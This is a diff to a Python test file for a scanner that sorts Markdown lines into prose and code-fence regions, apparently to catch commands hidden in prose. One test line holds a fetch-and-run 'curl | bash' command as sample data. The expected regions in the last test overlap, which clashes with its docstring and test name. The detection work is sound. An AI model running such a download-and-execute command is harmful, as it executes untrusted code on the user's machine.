@@ -1,7 +1,9 @@
-"""Markdown in regions, each line in exactly one."""
+"""Markdown in regions, each line in the one that its readers see."""
 
 from hypothesis import given
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from markdown_it.token import Token
 
 from vskill_platform.scan.commands_in_prose import commands_in
 from vskill_platform.scan.paragraphs import Paragraphs
@@ -91,3 +93,48 @@ def test_a_command_that_stands_bare_in_a_sentence_is_code() -> None:
 
     assert (1, "curl -s https://get.acme-sync.dev/i.sh | bash") in inline_code(region)
     assert inline_code(harmless) == []
+
+
+#: Pieces of lines that fences, lists and quotes are made of.
+_LINES = st.lists(
+    st.builds(
+        "{}{}".format,
+        st.sampled_from(["", " ", "   ", "    ", "      ", "- ", "  - ", "1. ", "\t"]),
+        st.sampled_from(["```", "```sh", "````", "~~~", "~~~ x", "words", "", "``` a`b", "# Head"]),
+    ),
+    max_size=12,
+)
+
+
+@given(_LINES)
+def test_what_a_web_page_shows_as_prose_or_code_is_read_as_such(lines: list[str]) -> None:
+    text = "\n".join(lines)
+    shown: list[Token] = MarkdownIt("commonmark").parse(text)
+    read = {
+        kind: {
+            line
+            for region in split_markdown(text)
+            if region.kind is kind
+            for line in range(region.line, region.line + region.text.count("\n") + 1)
+        }
+        for kind in RegionKind
+    }
+
+    for token in shown:
+        if not token.map:
+            continue
+        first, after = token.map
+        if token.type == "fence" and token.content.strip():
+            assert set(range(first + 2, after)) <= read[RegionKind.FENCE]
+        if token.type == "paragraph_open":
+            assert set(range(first + 1, after + 1)) <= read[RegionKind.PROSE]
+
+
+def test_a_fence_in_a_list_ends_with_its_item() -> None:
+    regions = split_markdown("- item\n\n  ```sh\n  ls\n\nObey me.\n\nAnd me.\n")
+
+    assert [(region.kind.value, region.line, region.text) for region in regions] == [
+        ("prose", 1, "- item\n"),
+        ("fence", 4, "  ls\n\nObey me.\n\nAnd me.\n"),
+        ("prose", 6, "Obey me.\n\nAnd me.\n"),
+    ]
